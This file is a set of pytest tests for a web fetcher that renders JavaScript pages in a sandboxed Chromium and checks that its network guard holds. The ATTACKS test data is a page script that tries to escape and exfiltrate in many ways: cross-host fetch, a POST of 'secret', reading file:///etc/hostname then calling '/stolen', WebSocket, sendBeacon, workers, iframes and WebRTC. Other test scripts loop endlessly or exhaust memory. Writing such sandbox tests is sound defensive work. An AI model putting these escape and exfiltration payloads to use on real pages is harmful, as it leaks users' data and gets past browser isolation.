"""Pages that need a browser, with the Chromium that the system has."""

import asyncio
import tempfile
from pathlib import Path

import msgspec
import pytest

from tests.fakes.browser import CHROMIUM, needs_chromium
from tests.fakes.scripted_site import ScriptedSite, datagram_ear, scripted_site
from tools.settings import FetchSettings
from tools.web.browser import page_process, renderer
from tools.web.browser.messages import BrowserMessage, PageOrder, RequestAnswer
from tools.web.browser.page_process import PageBrowser
from tools.web.browser.renderer import PageRenderer
from tools.web.fetch import Fetcher
from tools.web.page_cache import PageCache
from utils.errors import DocumentError
from utils.network.addresses import public_web
from utils.network.http import Client

pytestmark = needs_chromium
TEXT = "Herons stand still in shallow water and wait for fish. " * 8
EMPTY = (
    "text/html",
    '<html><head><title>Herons</title></head><body><div id="app"></div><script src="/app.js"></script>',
)
FILL = "document.getElementById('app').textContent = text;"
SHORT_SECONDS = 4.0
"""Of pages that never come to an end; the others have time, as a busy machine needs it to start a browser."""


def page(script: str) -> dict[str, tuple[str, str]]:
    return {"/": EMPTY, "/app.js": ("text/javascript", script), "/text": ("text/plain", TEXT)}


def fetcher(site: ScriptedSite, folder: Path, *, renders: bool = True, seconds: float = 110.0) -> Fetcher:
    settings = FetchSettings(allow_hosts=(site.host,))
    client = Client(public_web(settings.allow_hosts))
    render = PageRenderer(client, Client(public_web()), user_agent="Magpie/1", seconds=seconds, max_bytes=1_000_000)
    return Fetcher(client, PageCache(folder / "pages", 0), settings, renderer=render if renders else None)


async def test_a_page_that_its_script_fills_is_read(tmp_path: Path) -> None:
    script = f"fetch('/text').then(r => r.text()).then(text => {{ {FILL} }})"
    async with scripted_site(page(script)) as site:
        with pytest.raises(DocumentError, match="holds no text"):
            await fetcher(site, tmp_path, renders=False).fetch(site.url("/"))
        read = await fetcher(site, tmp_path).fetch(site.url("/"))
        assert site.requests[1:] == ["GET / HTTP/1.1", "GET /app.js HTTP/1.1", "GET /text HTTP/1.1"]
    assert (read.title, read.text.strip(), read.source) == ("Herons", TEXT.strip(), site.url("/"))


@pytest.mark.parametrize("where", ["/text", "http://10.0.0.1/"])
async def test_a_page_whose_script_leads_elsewhere_is_read_as_it_is_and_not_as_what_it_leads_to(
    tmp_path: Path, where: str
) -> None:
    script = f"const text = `{TEXT}`.toUpperCase(); {FILL} location.href = '{where}'"
    async with scripted_site(page(script)) as site:
        read = await fetcher(site, tmp_path).fetch(site.url("/"))
        assert site.requests == ["GET / HTTP/1.1", "GET /app.js HTTP/1.1"]
    assert (read.title, read.text.strip()) == ("Herons", TEXT.strip().upper())


# Whatever a page can ask with; `there` is a neighbour's address, `port` a port for datagrams.
ATTACKS = """
const there = 'THERE', text = `TEXT`;
const attempts = [
  () => fetch(`http://${there}/fetch`).catch(() => 0),
  () => fetch('/post', {method: 'POST', body: 'secret'}).catch(() => 0),
  () => fetch('file:///etc/hostname').then(r => r.text()).then(t => fetch('/stolen')).catch(() => 0),
  () => { new WebSocket(`ws://${there}/socket`) },
  () => { new EventSource(`http://${there}/events`) },
  () => navigator.sendBeacon(`http://${there}/beacon`, 'secret'),
  () => { new Image().src = `http://${there}/image` },
  () => { new Worker(URL.createObjectURL(new Blob([`fetch('http://${there}/worker').catch(() => 0)`]))) },
  () => navigator.serviceWorker.register('/app.js').catch(() => 0),
  () => window.open(`http://${there}/window`),
  () => { const frame = document.createElement('iframe'); frame.src = `http://${there}/frame`;
      document.body.append(frame) },
  () => { const link = document.createElement('a'); link.href = '/text'; link.download = 'x'; link.click() },
  () => { for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'modulepreload', 'stylesheet']) {
      const link = document.createElement('link'); link.rel = rel; link.href = `http://${there}/${rel}`;
      document.head.append(link) } },
  () => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
      peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)) },
];
for (const attempt of attempts) { try { attempt() } catch (error) {} }
setTimeout(() => { FILL }, 300);
"""


async def test_whatever_a_page_asks_for_nothing_gets_past_the_guard(tmp_path: Path) -> None:
    async with scripted_site({}) as neighbour, datagram_ear() as (ear, port), scripted_site(page("")) as site:
        script = ATTACKS.replace("THERE", neighbour.host).replace("PORT", str(port))
        script = script.replace("TEXT", TEXT).replace("FILL", FILL)
        site.pages["/app.js"] = ("text/javascript", script)
        read = await fetcher(site, tmp_path).fetch(site.url("/"))
    assert TEXT.strip() in read.text
    assert (neighbour.requests, ear.heard) == ([], [])
    # What it got from its own server is scripts and what it read as text, and the download is none of that.
    asked = {line.split(" ")[1] for line in site.requests}
    assert asked <= {"/", "/app.js", "/text"} and not any(line.startswith("POST") for line in site.requests)


async def test_where_the_system_leaves_it_a_network_the_browser_still_reaches_nothing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    asked: list[str] = []

    def refuse(message: BrowserMessage) -> None:
        assert message.request
        asked.append(message.request.url)
        lines.feed_data(msgspec.json.encode(RequestAnswer(message.request.number)) + b"\n")

    monkeypatch.setattr(page_process, "say", refuse)
    lines = asyncio.StreamReader()
    async with scripted_site({}) as neighbour, datagram_ear() as (ear, port):
        script = ATTACKS.replace("THERE", neighbour.host).replace("PORT", str(port))
        body = f"{EMPTY[1]}<script>{script.replace('TEXT', TEXT).replace('FILL', FILL)}</script>"
        headers = {"content-type": "text/html"}
        # In its folder Chromium makes a socket, whose path may have 107 characters.
        with tempfile.TemporaryDirectory(dir="/tmp", ignore_cleanup_errors=True) as folder:
            order = PageOrder(
                "http://birds.example/", headers, body.encode(), CHROMIUM or "", "Magpie/1", 100, 1_000_000, folder
            )
            html = await PageBrowser(order, lines).render()
    assert TEXT.strip() in html and any(url.endswith("/fetch") for url in asked)
    assert (neighbour.requests, ear.heard) == ([], [])


@pytest.mark.parametrize(
    "script",
    [
        "for (;;) {}",
        "const add = () => { for (;;) document.body.append('x'.repeat(1e6)) }; add()",
        "(function again() { fetch('/text?' + Math.random()).finally(again) })()",
    ],
    ids=["endless", "huge", "asks for ever"],
)
async def test_a_page_that_never_ends_is_given_up_and_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, script: str
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    async with scripted_site(page(script)) as site:
        with pytest.raises(DocumentError, match="holds no text"):
            await fetcher(site, tmp_path, seconds=SHORT_SECONDS).fetch(site.url("/"))
        assert len(site.requests) <= renderer.MAX_REQUESTS + 2
    assert list(tmp_path.glob("magpie-browser-*")) == []


async def test_a_page_that_has_its_text_is_not_rendered(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(renderer, "find_browser", lambda: pytest.fail("it was rendered"))
    text = ("text/html", f"<html><body><p>{TEXT}</p><script src='/app.js'></script></body></html>")
    async with scripted_site({"/": text}) as site:
        assert TEXT.strip() in (await fetcher(site, tmp_path).fetch(site.url("/"))).text
